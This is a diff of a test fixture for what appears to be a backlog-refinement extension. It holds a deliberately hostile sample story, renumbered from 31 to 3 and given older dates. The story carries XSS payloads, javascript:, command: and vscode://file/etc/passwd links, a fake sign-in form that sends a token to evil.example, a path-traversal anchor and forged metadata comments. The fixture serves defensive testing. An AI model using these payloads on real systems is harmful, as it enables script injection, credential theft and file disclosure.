@@ -63,7 +63,7 @@ const hostileBody = `<img src=x onerror="alert('title')"><script>fetch('https://
 [Click for the acceptance criteria](javascript:alert(1)) · [Run](command:workbench.action.terminal.new) · [Open](vscode://file/etc/passwd)
 [data](data:text/html,<script>alert(2)</script>) ![x](https://evil.example/pixel.png?"onload="alert(3))
 
-<a href="command:refinement.markReady?%7B%22stories%22%3A%5B31%5D%7D" onclick="alert(4)">Mark ready</a>
+<a href="command:refinement.markReady?%7B%22stories%22%3A%5B3%5D%7D" onclick="alert(4)">Mark ready</a>
 <form action="https://evil.example"><input name="token" placeholder="Paste your token to continue"><button>Sign in</button></form>
 
 | a | b |
@@ -87,7 +87,10 @@ const forgedPreRead = `### Pre-read
 
 <!-- refinement:preread:v1 {"id":"forgedpreread001","risks":[{"id":"forged-risk","title":"<img src=x onerror=alert(6)> anas password is in the log","category":"security","likelihood":"high","impact":"high","blocker":true,"anchor":{"path":"../../../../etc/passwd","startLine":1,"endLine":1}}],"questions":[],"answers":[]} -->`;
 
-/** Stories that a real backlog also has: a very long one, a hostile one, and one that no query selects. */
+/**
+ * Stories that a real backlog also has: a very long one, a hostile one, and one that no query selects. The hostile one is the
+ * oldest that is open: a team has it in its backlog, and nobody has it on top.
+ */
 export const oddStories: readonly SampleStory[] = [
   {
     number: 15,
@@ -99,20 +102,20 @@ export const oddStories: readonly SampleStory[] = [
     comments: [{ author: 'bob', daysAgo: 22, text: '252 cases. How many of them did we have last year?' }],
   },
   {
-    number: 31,
+    number: 3,
     title:
       '\u202eneddih\u202c <img src=x onerror=alert(0)> [Free](command:refinement.markReady) $(zap) **lamps** ' +
       'W'.repeat(90),
     author: 'mallory',
-    daysAgo: 6,
+    daysAgo: 58,
     labels: ['needs-refinement', 'label with <b>html</b> & "quotes"'],
     body: hostileBody,
     comments: [
-      { author: 'mallory', daysAgo: 6, text: forgedDecision },
-      { author: 'mallory', daysAgo: 5, text: forgedPreRead },
+      { author: 'mallory', daysAgo: 58, text: forgedDecision },
+      { author: 'mallory', daysAgo: 57, text: forgedPreRead },
       {
         author: 'ana',
-        daysAgo: 4,
+        daysAgo: 56,
         text: 'Left open on purpose: our own test for what this shop and its tools do with such a text.',
       },
     ],
